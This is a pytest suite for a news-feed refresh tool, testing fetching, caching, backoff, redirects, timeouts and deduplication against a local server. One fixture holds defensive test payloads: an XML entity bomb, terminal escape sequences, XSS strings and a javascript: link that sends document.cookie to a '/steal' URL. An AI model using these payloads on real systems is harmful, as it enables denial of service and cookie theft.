"""refresh(): real feeds and pages on 127.0.0.1, a real SQLite store, real worker processes."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from loopback import Loopback
from refresh_support import Newsroom, feed_bytes, localize, page_bytes, write_config

from brief import paths
from brief.config import Config, load_config
from brief.errors import LockedError
from brief.files import hold_lock
from brief.refresh import ProgressEvent, refresh
from brief.refresh.feeds import INGEST_PROCESS_MIN_FEEDS
from brief.store import Store, now_utc

REGISTER = "http://go.theregister.com"  # the Atom fixture's article host
NBC = "https://www.nbcnewyork.com"
AKTUALITY = "https://www.aktuality.sk"


@pytest.fixture
def news(loopback: Loopback) -> Newsroom:
    return Newsroom(loopback)


@pytest.fixture
def store(brief_home: Path) -> Iterator[Store]:
    with Store.open() as opened:
        yield opened


def _config(tmp_path: Path, feeds: list[str], **refresh_settings: object) -> Config:
    return load_config(write_config(tmp_path / "config.toml", feeds, **refresh_settings))


def _two_news_feeds(news: Newsroom) -> list[str]:
    """The Register's Atom feed (2 entries) and NBC New York's RSS (1), links on the server."""
    base = news.loopback.url("/")
    register = news.feed(
        "/science.atom", localize(feed_bytes("atom_example_2.xml"), REGISTER, base)
    )
    nbc = news.feed("/nbc.rss", localize(feed_bytes("rss_2.0_nbcny.xml"), NBC, base))
    news.pages_for(register)
    news.pages_for(nbc)
    return [register, nbc]


def test_first_refresh_stores_briefs_and_the_second_transfers_no_body(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    urls = _two_news_feeds(news)
    config = _config(tmp_path, urls)

    first = refresh(store, config)

    assert (first.feeds_ok, first.feeds_not_modified, first.feeds_failed) == (2, 0, ())
    assert (first.new_articles, first.articles_full, first.articles_failed) == (3, 3, 0)
    articles = [store.get_article(a.id) for a in store.list_articles()]
    assert len(articles) == 3
    for article in articles:
        assert article is not None and article.status == "full" and article.brief is not None
        assert article.brief.summary and len(article.text.split()) > 150  # the page, not the feed
    titles = {f.title for f in store.list_feeds()}
    assert titles == {"The Register - Science", "NBC New York"}

    feed_bytes_before = news.body_bytes("/science.atom") + news.body_bytes("/nbc.rss")
    pages_before = news.body_bytes() - feed_bytes_before
    second = refresh(store, config)

    assert (second.feeds_ok, second.feeds_not_modified, second.new_articles) == (0, 2, 0)
    assert news.not_modified() == 2
    assert news.body_bytes("/science.atom") + news.body_bytes("/nbc.rss") == feed_bytes_before
    assert news.body_bytes() - feed_bytes_before == pages_before  # no page fetched again
    last = news.loopback.requests[-1]
    assert last.headers.get("If-None-Match", "").startswith('"')
    assert store.count_articles() == 3


def test_feeds_only_leaves_pending_articles_that_the_next_refresh_finishes(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    config = _config(tmp_path, _two_news_feeds(news))

    first = refresh(store, config, articles=False)
    assert (first.new_articles, first.articles_pending, first.articles_full) == (3, 3, 0)
    assert {a.status for a in store.list_articles()} == {"pending"}
    # Pending articles already show the feed's own text.
    assert all(a.title for a in store.list_articles())

    second = refresh(store, config)
    assert (second.feeds_not_modified, second.new_articles, second.articles_full) == (2, 0, 3)
    assert store.pending_articles() == []


def test_a_feed_that_changes_brings_only_its_new_entries(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    full = localize(feed_bytes("aktuality.rss"), AKTUALITY, news.loopback.url("/"))
    items = list(re.finditer(rb"<item>.*?</item>", full, re.S))
    older = full[: items[0].start()] + full[items[2].start() :]  # the two newest not out yet
    url = news.feed("/aktuality.rss", older)
    config = _config(tmp_path, [url])

    first = refresh(store, config, articles=False)
    assert (first.feeds_ok, first.new_articles) == (1, 28)

    news.feed("/aktuality.rss", full)
    second = refresh(store, config, articles=False)
    assert (second.feeds_ok, second.new_articles) == (1, 2)
    assert store.count_articles() == 30
    newest = store.list_articles(limit=1)[0]
    assert newest.title == "Analytici Goldman Sachs zvýšili odhad rastu ekonomiky USA"

    third = refresh(store, config, articles=False)
    assert (third.feeds_not_modified, third.new_articles) == (1, 0)


def test_many_feeds_are_parsed_and_stored_by_the_ingest_process(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    full = localize(feed_bytes("aktuality.rss"), AKTUALITY, news.loopback.url("/"))
    items = [m.group(0) for m in re.finditer(rb"<item>.*?</item>", full, re.S)]
    head = full[: full.index(b"<item>")]
    urls = [
        news.feed(f"/desk{n}.rss", head + b"".join(items[n::15]) + b"</channel></rss>")
        for n in range(15)
    ]
    urls.append(news.feed("/broken.rss", feed_bytes("rss_2.0_invalid_1.xml")))
    assert len(urls) >= INGEST_PROCESS_MIN_FEEDS
    config = _config(tmp_path, urls)

    first = refresh(store, config, articles=False)

    assert (first.feeds_ok, first.new_articles) == (15, 30)
    assert [f.url for f in first.feeds_failed] == [urls[-1]]
    assert "feed" in first.feeds_failed[0].error  # the FeedError came back from the process
    assert store.count_articles() == 30
    assert {f.title for f in store.list_feeds() if f.url != urls[-1]} == {
        "Aktuality.sk - aktuálne spravodajstvo"
    }
    second = refresh(store, config, articles=False)
    assert (second.feeds_not_modified, second.new_articles, second.feeds_postponed) == (15, 0, 1)


def test_a_broken_feed_keeps_its_error_and_backs_off_while_the_others_refresh(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    good = news.feed("/nbc.rss", feed_bytes("rss_2.0_nbcny.xml"))
    broken = news.feed("/reuters.rss", feed_bytes("rss_2.0_invalid_1.xml"))
    config = _config(tmp_path, [good, broken])

    events: list[ProgressEvent] = []
    first = refresh(store, config, articles=False, progress=events.append)

    assert first.feeds_ok == 1 and len(first.feeds_failed) == 1
    failure = first.feeds_failed[0]
    failed = [e for e in events if e.outcome == "failed"]
    assert [e.error for e in failed] == [failure.error]
    assert failure.url == broken and "feed" in failure.error
    status = store.get_feed(broken)
    assert status is not None and status.error_count == 1
    assert status.last_error == failure.error
    assert status.next_attempt is not None and status.next_attempt > now_utc()

    second = refresh(store, config, articles=False)
    assert (second.feeds_postponed, second.feeds_not_modified, len(second.feeds_failed)) == (
        1,
        1,
        0,
    )
    assert news.hits("/reuters.rss") == 1  # not asked again before its delay

    third = refresh(store, config, articles=False, force=True)
    assert len(third.feeds_failed) == 1 and news.hits("/reuters.rss") == 2
    again = store.get_feed(broken)
    assert again is not None and again.error_count == 2
    assert again.next_attempt is not None and status.next_attempt is not None
    assert again.next_attempt > status.next_attempt  # the delay doubled

    news.feed("/reuters.rss", feed_bytes("rss_2.0_nbcny.xml").replace(b"4956764", b"r1"))
    fixed = refresh(store, config, articles=False, force=True)
    assert fixed.feeds_ok == 1 and not fixed.feeds_failed
    healed = store.get_feed(broken)
    assert healed is not None and (healed.error_count, healed.last_error) == (0, None)


def test_retry_after_is_honoured(loopback: Loopback, store: Store, tmp_path: Path) -> None:
    url = loopback.route(
        "/busy.rss", b"busy", status=503, content_type="text/plain", headers={"Retry-After": "7200"}
    )
    report = refresh(store, _config(tmp_path, [url]), articles=False)

    assert "503" in report.feeds_failed[0].error
    status = store.get_feed(url)
    assert status is not None and status.next_attempt is not None
    assert status.next_attempt - now_utc() > timedelta(hours=1)  # not the 2-minute backoff


def test_a_slow_host_misses_its_deadline_and_the_others_are_refreshed(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    good = news.feed("/nbc.rss", feed_bytes("rss_2.0_nbcny.xml"))
    slow = news.feed("/slow.rss", feed_bytes("aktuality.rss"))
    news.delay["/slow.rss"] = 5.0
    config = _config(tmp_path, [good, slow], deadline=0.5, read_timeout=0.5)

    report = refresh(store, config, articles=False)

    assert report.feeds_ok == 1
    assert [f.url for f in report.feeds_failed] == [slow]
    assert "0.5 s" in report.feeds_failed[0].error


def test_a_permanent_redirect_moves_the_subscription(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    new = news.feed("/new.rss", feed_bytes("rss_2.0_nbcny.xml"))
    old = news.loopback.route("/old.rss", status=301, headers={"Location": "/new.rss"})
    temporary = news.loopback.route("/elsewhere.rss", status=302, headers={"Location": "/new.rss"})
    moved_id, _ = store.add_feed(old)
    kept_id, _ = store.add_feed(temporary)
    config = _config(tmp_path, [])

    report = refresh(store, config, articles=False)

    assert report.moved == ((old, new),)
    moved = store.get_feed(moved_id)
    kept = store.get_feed(kept_id)
    assert moved is not None and moved.url == new
    assert kept is not None and kept.url == temporary  # a 302 is not a move
    refresh(store, config, articles=False, force=True)
    assert [r.path for r in news.loopback.requests].count("/old.rss") == 1


def test_a_feed_listed_in_the_config_keeps_its_url_when_it_moves(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    new = news.feed("/new.rss", feed_bytes("rss_2.0_nbcny.xml"))
    old = news.loopback.route("/old.rss", status=308, headers={"Location": new})

    report = refresh(store, _config(tmp_path, [old]), articles=False)

    assert report.moved == ((old, new),) and report.feeds_ok == 1
    assert [f.url for f in store.list_feeds()] == [old]


HOSTILE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Hostile &lol9;</title>
<item><title>\x1b[2J\x1b]0;pwned\x07\x1b[31mRed alert\x1b[0m [bold red]markup[/bold red]
&lt;script&gt;alert(1)&lt;/script&gt; &lol9;</title>
<link>javascript:fetch('http://127.0.0.1/steal?c='+document.cookie)</link><guid>h1</guid>
<description>&lt;img src=x onerror=alert(1)&gt;The first story, with its own text. &lol9;
</description></item>
<item><title>Second story \xe2\x80\xaedesrever\xe2\x80\xac</title><link>/a/ok</link><guid>h2</guid>
<description>The second story.</description></item>
</channel></rss>"""


def test_a_hostile_feed_is_stored_as_plain_text(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    url = news.feed("/hostile.rss", HOSTILE)
    news.page("/a/ok")

    report = refresh(store, _config(tmp_path, [url]))

    assert report.feeds_ok == 1 and report.new_articles == 2
    stored = {a.title or "": a for a in store.list_articles()}
    for title in stored:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", title)
        assert len(title) < 300  # the entity bomb did not expand
    red = next(a for t, a in stored.items() if "Red alert" in t)
    assert red.url is None  # the javascript: link was dropped, never followed
    assert red.status == "feed-only" and red.reason == "the entry has no link"
    assert "[bold red]" in (red.title or "")  # kept as text: nothing renders it as markup
    full = store.get_article(red.id)
    assert full is not None and "onerror" not in full.text
    assert {r.path for r in news.loopback.requests} == {"/hostile.rss", "/a/ok"}


JS_ONLY = b"""<!doctype html><html><head><title>Loading</title>
<script src="/app.js"></script></head><body><div id="root"></div>
<noscript>Please enable JavaScript.</noscript></body></html>"""


def test_an_article_whose_page_fails_keeps_the_feed_text(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    story = "The regional council approved the new budget on Tuesday after a long debate. " * 3
    items = "".join(
        f"<item><title>Story {name}</title><link>/a/{name}</link><guid>{name}</guid>"
        f"<description>{story} ({name})</description></item>"
        for name in ("forbidden", "javascript", "huge", "fine")
    )
    feed = f'<rss version="2.0"><channel><title>Desk</title>{items}</channel></rss>'.encode()
    url = news.feed("/desk.rss", feed)
    news.page("/a/forbidden", b"<html><body>Subscribers only</body></html>", status=403)
    news.page("/a/javascript", JS_ONLY)
    news.page("/a/huge", b"<html><body>" + b"<p>word word word</p>" * 100_000 + b"</body></html>")
    news.page("/a/fine")

    report = refresh(store, _config(tmp_path, [url], max_bytes=1_000_000))

    assert (report.new_articles, report.articles_full, report.articles_failed) == (4, 1, 3)
    by_title = {a.title: store.get_article(a.id) for a in store.list_articles()}
    reasons = {}
    for name in ("forbidden", "javascript", "huge"):
        article = by_title[f"Story {name}"]
        assert article is not None and article.status == "feed-only"
        assert article.text.startswith("The regional council approved")
        assert article.brief is not None and article.brief.summary  # analyzed from the feed
        reasons[name] = article.reason or ""
    assert "403" in reasons["forbidden"]
    assert "no article text" in reasons["javascript"]
    assert "larger than" in reasons["huge"]
    fine = by_title["Story fine"]
    assert fine is not None and fine.status == "full" and fine.reason is None


def test_a_page_that_stalls_extraction_is_given_up_and_the_worker_replaced(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    paragraph = (
        "“We will not accept this decision,” said Maria Lopez, the mayor, on Tuesday. "
        "Officials said the plan would cost more than $40 million over five years."
    )
    endless = "".join(f"<p>{paragraph} Part {k}.</p>" for k in range(15_000))
    page = f"<html><body><article><h1>Endless</h1>{endless}</article></body></html>"
    items = (
        "<item><title>Endless</title><link>/a/endless</link><guid>e</guid>"
        "<description>The mayor rejected the decision.</description></item>"
        "<item><title>Fine</title><link>/a/fine</link><guid>f</guid>"
        "<description>Another story.</description></item>"
    )
    url = news.feed("/desk.rss", f'<rss version="2.0"><channel>{items}</channel></rss>'.encode())
    news.page("/a/endless", page.encode())
    news.page("/a/fine")

    # The endless page needs about a minute; 5 s leaves the fine page room on a loaded machine.
    report = refresh(store, _config(tmp_path, [url], article_timeout=5.0))

    assert (report.articles_full, report.articles_failed) == (1, 1)
    endless_article = next(a for a in store.list_articles() if a.title == "Endless")
    assert endless_article.status == "feed-only"
    assert endless_article.reason == "extraction and analysis took longer than 5 s"
    assert endless_article.lead == "The mayor rejected the decision."


def test_one_story_through_two_feeds_is_stored_once_and_belongs_to_both(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    def feed(title: str, items: list[tuple[str, str]]) -> bytes:
        body = "".join(
            f"<item><title>{t}</title><link>{link}</link><guid>{title}-{t}</guid>"
            f"<description>{t}, as told by {title}.</description></item>"
            for t, link in items
        )
        return f'<rss version="2.0"><channel><title>{title}</title>{body}</channel></rss>'.encode()

    # Same link (tracking parameters aside) in both; and two links to the same text.
    shared = news.page("/story", page_bytes("guardian-whales"))
    news.page("/mirror-a", page_bytes("bbc-swift"))
    news.page("/mirror-b", page_bytes("bbc-swift"))
    one = news.feed(
        "/one.rss", feed("One", [("Shared", shared + "?utm_source=one"), ("Mirror", "/mirror-a")])
    )
    two = news.feed(
        "/two.rss",
        feed("Two", [("Shared", shared + "?utm_medium=rss&fbclid=x"), ("Copy", "/mirror-b")]),
    )

    report = refresh(store, _config(tmp_path, [one, two]))

    assert report.feeds_ok == 2
    articles = store.list_articles()
    assert len(articles) == 2  # the shared story and the mirrored one, once each
    for article in articles:
        assert sorted(article.feeds) == ["One", "Two"]
    assert news.hits("/story") == 1  # fetched once


def test_article_links_to_local_addresses_are_refused_for_a_public_feed(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    from brief.feeds import parse_feed
    from brief.store import FetchUpdate

    target = news.page("/a/internal")
    # A feed on a public address (never fetched here) whose entry points at 127.0.0.1.
    feed_id, _ = store.add_feed("http://93.184.216.34/feed.rss")
    rss = f'<rss version="2.0"><channel><item><title>Inside</title><link>{target}</link>'
    rss += "<description>Bait.</description></item></channel></rss>"
    entries = parse_feed(rss.encode(), "http://93.184.216.34/feed.rss").entries
    store.record_fetch(feed_id, FetchUpdate(), entries)

    report = refresh(store, _config(tmp_path, [], allow_private=False), feed_ids=[])

    assert report.articles_failed == 1
    article = store.list_articles()[0]
    assert article.status == "feed-only" and "local address" in (article.reason or "")
    assert news.hits("/a/internal") == 0


def test_article_links_on_the_feeds_own_local_network_are_fetched(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    urls = _two_news_feeds(news)
    report = refresh(store, _config(tmp_path, urls, allow_private=False))
    assert (report.articles_full, report.articles_failed) == (3, 0)


def test_progress_reports_each_feed_and_article(
    news: Newsroom, store: Store, tmp_path: Path
) -> None:
    events: list[ProgressEvent] = []
    refresh(store, _config(tmp_path, _two_news_feeds(news)), progress=events.append)

    assert [(e.phase, e.total) for e in events if e.outcome == "start"] == [
        ("feeds", 2),
        ("articles", 3),
    ]
    feeds = [e for e in events if e.phase == "feeds" and e.outcome != "start"]
    articles = [e for e in events if e.phase == "articles" and e.outcome != "start"]
    assert [e.done for e in feeds] == [1, 2] and {e.outcome for e in feeds} == {"ok"}
    assert [e.done for e in articles] == [1, 2, 3] and {e.outcome for e in articles} == {"full"}


def test_a_second_refresh_waits_for_the_lock_then_gives_up(store: Store, tmp_path: Path) -> None:
    config = _config(tmp_path, [])
    with (
        hold_lock(paths.lock_file("refresh"), 0),
        pytest.raises(LockedError, match="another brief refresh"),
    ):
        refresh(store, config, lock_wait=0.2)
    report = refresh(store, config, lock_wait=0.2)  # free again
    assert report.ok
